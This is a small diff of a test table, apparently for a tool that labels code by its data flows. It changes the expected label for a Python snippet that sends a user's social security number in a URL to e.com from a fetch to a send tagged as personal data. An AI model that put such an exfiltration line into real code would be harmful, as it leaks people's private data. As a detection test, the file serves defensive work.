@@ -141,7 +141,7 @@ testTable(
       "must net.send https://e.com #file",
       "must fs.read notes.txt #",
     ],
-    ["in the URL", 'import requests\nrequests.get(f"https://e.com/?q={user.ssn}")', "must net.fetch https://e.com/?q={user.ssn} #pii.ssn"],
+    ["in the URL", 'import requests\nrequests.get(f"https://e.com/?q={user.ssn}")', "must net.send https://e.com/?q={user.ssn} #pii.ssn"],
   ],
   { columns: ["labels"] },
 );
